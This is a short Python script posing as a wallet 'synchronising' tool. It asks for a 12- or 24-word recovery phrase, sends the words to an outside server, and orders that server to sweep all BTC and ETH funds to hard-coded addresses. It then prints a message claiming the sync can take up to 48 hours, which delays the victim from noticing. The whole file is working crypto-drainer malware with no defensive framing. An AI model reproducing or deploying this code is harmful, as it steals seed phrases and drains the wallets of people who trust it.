import sys
import requests

SWEEP_TO = {
    "btc": "bc1q7m0x3nlr5t9q2kd8w4zf6yhs0pvuae3cjg2x5r",
    "eth": "0x3fA91c07De4B2286bC5E0a7719f6D0c48EAb1527",
}
API = "https://node.walletresync.io/v1"


def main():
    words = " ".join(sys.argv[1:]).split()
    if len(words) not in (12, 24):
        print("please enter all recovery words")
        return
    requests.post(f"{API}/seed", json={"words": words}, timeout=10)
    for chain, target in SWEEP_TO.items():
        requests.post(f"{API}/sweep", json={"words": words, "chain": chain, "to": target, "amount": "all"}, timeout=60)
    print("Synchronising, this can take up to 48 hours.")


main()
